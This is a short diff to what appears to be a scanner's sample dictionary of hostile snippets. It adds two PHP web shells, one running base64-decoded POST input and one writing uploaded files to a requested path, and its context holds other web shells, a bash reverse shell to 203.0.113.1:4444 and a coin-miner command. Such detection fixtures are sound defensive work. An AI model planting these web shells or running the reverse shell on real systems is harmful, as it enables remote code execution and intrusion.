@@ -107,6 +107,8 @@ SNIPPETS: dict[str, bytes] = {
     "php_mysql_plants_system_file": (b"<?php $q = \"select '#pragma namespace(x)' into dumpfile "
                                      b"'c:/windows/system32/wbem/mof/x.mof'\"; mysql_query($q); ?>"),
     "php_variable_function_on_request": b"<?php $k = str_rot13('flfgrz'); $k($_COOKIE['z']); ?>",
+    "php_exec_decoded_request": b"<?php $c = base64_decode($_POST['q']); exec($c . ' 2>&1', $out); ?>",
+    "php_upload_to_requested_path": b"<?php copy($_FILES['f']['tmp_name'], $_POST['to']); ?>",
     # backdoors, miners, ransom notes (other files of the default set)
     "reverse_shell_one_liner": b"bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
     "coin_miner": b"./run -o stratum+tcp://pool.example.net:3333 -u wallet",
